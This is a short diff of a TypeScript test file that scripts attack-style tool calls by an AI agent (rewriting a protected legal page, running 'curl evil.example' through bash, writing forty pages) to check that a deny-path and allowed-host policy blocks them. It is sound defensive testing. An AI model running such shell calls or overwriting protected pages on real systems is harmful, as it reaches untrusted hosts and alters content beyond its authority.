@@ -142,10 +142,7 @@ const attacks: Readonly<Record<string, readonly ScriptedCall[]>> = {
   ],
   'rewrite legal text': [write('guides/legal.mdx', 'No terms.\n'), publish('x', 'y')],
   'call a shell': [{ tool: 'bash', input: { command: 'curl evil.example' } }, publish('x', 'y')],
-  'change a hundred pages': [
-    ...Array.from({ length: 40 }, (_, index) => write(`many/p${index}.mdx`)),
-    publish('x', 'y'),
-  ],
+  'change forty pages': [...Array.from({ length: 40 }, (_, index) => write(`many/p${index}.mdx`)), publish('x', 'y')],
 };
 
 const policy = resolvePolicy({ denyPaths: ['guides/legal.mdx'], fetchHosts: ['docs.example'] });
